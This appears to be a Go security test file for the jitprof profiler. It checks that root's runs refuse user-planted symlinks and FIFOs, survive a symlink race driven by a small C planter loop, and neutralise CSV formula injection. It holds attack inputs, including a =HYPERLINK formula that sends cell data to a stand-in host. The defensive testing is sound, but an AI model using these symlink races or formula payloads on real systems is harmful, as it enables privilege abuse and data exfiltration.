package main

import (
	"bytes"
	"context"
	"encoding/csv"
	"fmt"
	"os"
	"os/exec"
	"path/filepath"
	"strconv"
	"strings"
	"testing"
	"time"

	"golang.org/x/sys/unix"

	"github.com/jitprof/jitprof/internal/perftest"
)

// userDir returns a directory owned by the test user (their project, say)
// in a tree the user can reach, and the user's uid and gid.
func userDir(t *testing.T) (dir string, uid, gid int) {
	t.Helper()
	uid, gid = testUser(t)
	top := t.TempDir()
	for _, d := range []string{filepath.Dir(top), top} {
		if err := os.Chmod(d, 0o755); err != nil {
			t.Fatal(err)
		}
	}
	dir = filepath.Join(top, "project")
	if err := os.Mkdir(dir, 0o755); err != nil {
		t.Fatal(err)
	}
	if err := os.Chown(dir, uid, gid); err != nil {
		t.Fatal(err)
	}
	return dir, uid, gid
}

// rootFile writes a root-only file outside dir for an attack to aim at.
func rootFile(t *testing.T, body string) string {
	t.Helper()
	path := filepath.Join(t.TempDir(), "root-only")
	if err := os.WriteFile(path, []byte(body), 0o600); err != nil {
		t.Fatal(err)
	}
	return path
}

// plant makes a symlink owned by uid, as the user would make it.
func plant(t *testing.T, target, link string, uid, gid int) {
	t.Helper()
	if err := os.Symlink(target, link); err != nil {
		t.Fatal(err)
	}
	if err := os.Lchown(link, uid, gid); err != nil {
		t.Fatal(err)
	}
}

// jitprofCmd runs jitprof with args, killed after 60 s, and returns its
// output and error.
func jitprofCmd(t *testing.T, jitprof string, args ...string) (string, error) {
	t.Helper()
	ctx, cancel := context.WithTimeout(context.Background(), 60*time.Second)
	defer cancel()
	cmd := exec.CommandContext(ctx, jitprof, args...)
	var out bytes.Buffer
	cmd.Stdout, cmd.Stderr = &out, &out
	err := cmd.Run()
	if ctx.Err() != nil {
		t.Fatalf("jitprof %s did not end in 60 s\n%s", strings.Join(args, " "), out.String())
	}
	return out.String(), err
}

// TestOutputLinks is a user's attack on the files root's jitprof writes:
// in the user's directory, the output paths of record, report and
// annotate are symlinks to a root-only file, or a FIFO. jitprof must
// refuse them, never write the root file, and never block.
func TestOutputLinks(t *testing.T) {
	needRoot(t, "the attack is on files root writes, by another user")
	perftest.Perf(t)
	dir, uid, gid := userDir(t)
	jitprof := buildJitprof(t, t.TempDir())
	const body = "root's file, which no output may touch\n"
	target := rootFile(t, body)
	data := filepath.Join(t.TempDir(), "perf.data")
	if out, err := jitprofCmd(t, jitprof, "record", "-q", "-o", data, "--", "true"); err != nil {
		t.Fatalf("jitprof record: %v\n%s", err, out)
	}
	fifo := filepath.Join(dir, "fifo")
	if err := unix.Mkfifo(fifo, 0o644); err != nil {
		t.Fatal(err)
	}
	os.Lchown(fifo, uid, gid)
	for _, tc := range []struct {
		name string
		args []string
	}{
		{"record.data", []string{"record", "-q", "-o", "OUT", "--", "true"}},
		{"report.txt", []string{"report", "-i", data, "-o", "OUT"}},
		{"report.csv", []string{"report", "-i", data, "--format", "csv", "-o", "OUT"}},
		{"annotate.txt", []string{"annotate", "-i", data, "-o", "OUT"}},
	} {
		for _, at := range []string{"link", "link to a device", "fifo"} {
			out := filepath.Join(dir, tc.name)
			os.Remove(out)
			switch at {
			case "link":
				plant(t, target, out, uid, gid)
			case "link to a device":
				plant(t, "/dev/null", out, uid, gid)
			case "fifo":
				out = fifo
			}
			args := append([]string(nil), tc.args...)
			for i := range args {
				if args[i] == "OUT" {
					args[i] = out
				}
			}
			said, err := jitprofCmd(t, jitprof, args...)
			if err == nil || !strings.Contains(said, "refusing to write "+out) {
				t.Errorf("jitprof %s %s with %s at the output: %v, want a refusal\n%s", tc.args[0], tc.name, at, err, said)
			}
			if fi, err := os.Lstat(out); err != nil || fi.Mode().IsRegular() {
				t.Errorf("jitprof %s: %s at the output became a regular file or went (%v)", tc.args[0], at, err)
			}
		}
	}
	if b, err := os.ReadFile(target); err != nil || string(b) != body {
		t.Errorf("the root-only file the links point at was written (%d bytes, %v)", len(b), err)
	}
}

// TestOutputOldRace is the race perf record's habit invites: a non-empty
// output is renamed FILE.old, and a user who owns the directory plants a
// symlink at FILE in a loop so that the new output is opened through it.
// Each of 40 recordings must leave the root-only file the link points at
// as it was, and put a regular file at FILE (or refuse a symlink found
// there before it began).
func TestOutputOldRace(t *testing.T) {
	needRoot(t, "the attack is on files root writes, by another user")
	perftest.Perf(t)
	gcc := perftest.Need(t, "gcc")
	dir, uid, gid := userDir(t)
	jitprof := buildJitprof(t, t.TempDir())
	const body = "root's file, which no output may touch\n"
	target := rootFile(t, body)

	src := filepath.Join(t.TempDir(), "planter.c")
	bin := filepath.Join(filepath.Dir(dir), "planter")
	if err := os.WriteFile(src, []byte(`#include <unistd.h>
int main(int argc, char **argv) { for (;;) symlink(argv[1], argv[2]); }
`), 0o644); err != nil {
		t.Fatal(err)
	}
	perftest.Run(t, gcc, "-O2", "-o", bin, src)
	out := filepath.Join(dir, "perf.data")
	planter := exec.Command(perftest.Need(t, "setpriv"), "--reuid", strconv.Itoa(uid), "--regid", strconv.Itoa(gid), "--clear-groups", "--", bin, target, out)
	if err := planter.Start(); err != nil {
		t.Fatal(err)
	}
	t.Cleanup(func() {
		planter.Process.Kill()
		planter.Wait()
	})
	var recorded, refused int
	for range 40 {
		// A regular, non-empty previous output, put in place at once so
		// that the planter cannot get in first.
		prev := filepath.Join(dir, ".prev")
		if err := os.WriteFile(prev, []byte("previous recording\n"), 0o600); err != nil {
			t.Fatal(err)
		}
		if err := os.Rename(prev, out); err != nil {
			t.Fatal(err)
		}
		said, err := jitprofCmd(t, jitprof, "record", "-q", "-o", out, "--", "true")
		switch {
		case err == nil:
			recorded++
			// The planter cannot replace a file that is there.
			if fi, err := os.Lstat(out); err != nil || !fi.Mode().IsRegular() {
				t.Errorf("after jitprof record, %s is no regular file (%v)", out, err)
			}
		case strings.Contains(said, "refusing to write "+out):
			refused++
		default:
			t.Errorf("jitprof record: %v\n%s", err, said)
		}
		if b, err := os.ReadFile(target); err != nil || string(b) != body {
			t.Fatalf("run %d: the root-only file the planted link points at was written (%d bytes, %v)", recorded+refused, len(b), err)
		}
	}
	t.Logf("%d recordings, %d refused a link planted before they began", recorded, refused)
	if recorded == 0 {
		t.Errorf("no recording ran: the test raced nothing")
	}
}

// TestInputAttack is a user's attack on root's -i: in the user's
// directory, the recording root reads is a symlink to a root-only file,
// or a FIFO. No message may quote the file's bytes (as text or as hex),
// and the FIFO, which no one writes, must be refused, not block jitprof
// in open. A FIFO of root's own, written after jitprof opens it, is read.
func TestInputAttack(t *testing.T) {
	needRoot(t, "the attack is on files root reads, by another user")
	perftest.Perf(t)
	dir, uid, gid := userDir(t)
	jitprof := buildJitprof(t, t.TempDir())
	const secret = "SECRET01" // a bad magic number, printed in hex before
	target := rootFile(t, secret+strings.Repeat("more of root's file\n", 10))
	link := filepath.Join(dir, "perf.data")
	plant(t, target, link, uid, gid)
	fifo := filepath.Join(dir, "fifo.data")
	if err := unix.Mkfifo(fifo, 0o644); err != nil {
		t.Fatal(err)
	}
	os.Lchown(fifo, uid, gid)
	le, be := "", ""
	for i := range secret {
		le = fmt.Sprintf("%02x", secret[i]) + le
		be += fmt.Sprintf("%02x", secret[i])
	}
	commands := func(in string) [][]string {
		return [][]string{
			{"report", "-i", in},
			{"annotate", "-i", in},
			{"dump", "-i", in},
			{"pypy", "loops", "-i", in},
			{"import", "--session-dir", t.TempDir(), in},
			{"pathtime", "--pypylog", in},
			{"pypy", "loops", "--pypylog", in, "-i", in},
		}
	}
	for _, args := range commands(link) {
		said, err := jitprofCmd(t, jitprof, args...)
		if err == nil {
			t.Errorf("jitprof %s: no error", strings.Join(args, " "))
		}
		for _, b := range []string{secret, le, be, "more of root"} {
			if strings.Contains(strings.ToLower(said), strings.ToLower(b)) {
				t.Errorf("jitprof %s quotes the file's bytes (%s):\n%s", strings.Join(args, " "), b, said)
			}
		}
	}
	refusal := fmt.Sprintf("refusing %s: owned by uid %d", fifo, uid)
	for _, args := range commands(fifo) {
		said, err := jitprofCmd(t, jitprof, args...)
		if err == nil || !strings.Contains(said, refusal) {
			t.Errorf("jitprof %s: %v, want %q\n%s", strings.Join(args, " "), err, refusal, said)
		}
	}

	// Root's own FIFO, which perf's pipe mode fills once jitprof waits
	// on it.
	mine := filepath.Join(t.TempDir(), "pipe.data")
	if err := unix.Mkfifo(mine, 0o600); err != nil {
		t.Fatal(err)
	}
	report := exec.Command(jitprof, "report", "-i", mine, "--sort", "comm")
	var out, errOut bytes.Buffer
	report.Stdout, report.Stderr = &out, &errOut
	if err := report.Start(); err != nil {
		t.Fatal(err)
	}
	time.Sleep(200 * time.Millisecond)
	perftest.Run(t, "sh", "-c", perftest.Perf(t)+` record -q -o - -- sh -c 'i=0; while [ $i -lt 300000 ]; do i=$((i+1)); done' >`+mine)
	if err := report.Wait(); err != nil || !strings.Contains(out.String(), " sh\n") {
		t.Errorf("report -i of root's FIFO: %v\n%s\n%s", err, out.String(), errOut.String())
	}
}

// TestCSVFormulas: a user's JIT names its code and itself what a
// spreadsheet takes for formulas; root's report --format csv must keep
// every such cell text, prefixed with a quote as OWASP advises.
func TestCSVFormulas(t *testing.T) {
	needRoot(t, "the JIT is another user's, its names their choice")
	perftest.Perf(t)
	gcc := perftest.Need(t, "gcc")
	uid, gid := testUser(t)
	jitprof := buildJitprof(t, t.TempDir())
	const name = `=HYPERLINK("http://example.invalid/?"&A1,"open")`
	src := strings.Replace(perftest.AnonJITSource, "jit_spin", strings.ReplaceAll(name, `"`, `\"`), 1)
	src = strings.Replace(src, "#include <stdio.h>", "#include <stdio.h>\n#include <sys/prctl.h>", 1)
	src = strings.Replace(src, "double secs = ", `prctl(PR_SET_NAME, "@SUM(1+1)", 0, 0, 0);
	double secs = `, 1)
	dir := filepath.Dir(t.TempDir())
	os.Chmod(dir, 0o755)
	c, jit := filepath.Join(dir, "formula.c"), filepath.Join(dir, "formula")
	os.WriteFile(c, []byte(src), 0o644)
	perftest.Run(t, gcc, "-O1", "-o", jit, c)
	data := filepath.Join(t.TempDir(), "perf.data")
	out := perftest.Run(t, jitprof, "record", "-q", "-o", data, "--", perftest.Need(t, "setpriv"), "--reuid", strconv.Itoa(uid), "--regid", strconv.Itoa(gid), "--clear-groups", "--", jit, "1", "map")
	var pid int
	fmt.Sscanf(out, "ready %d", &pid)
	t.Cleanup(func() { os.Remove(fmt.Sprintf("/tmp/perf-%d.map", pid)) })
	text := perftest.Run(t, jitprof, "report", "-i", data, "--anon-samples", "--format", "csv", "--sort", "comm,sym")
	rows, err := csv.NewReader(strings.NewReader(text)).ReadAll()
	if err != nil {
		t.Fatalf("the CSV does not parse: %v\n%s", err, text)
	}
	var named, comm bool
	for _, row := range rows {
		for _, cell := range row {
			if cell != "" && cell != "-" && strings.ContainsAny(cell[:1], "=+-@\t\r") {
				t.Errorf("cell %q is a formula", cell)
			}
			named = named || cell == "'"+name
			comm = comm || cell == "'@SUM(1+1)"
		}
	}
	if !named || !comm {
		t.Errorf("the CSV lacks the JIT's name or its command, quoted:\n%s", text)
	}
}
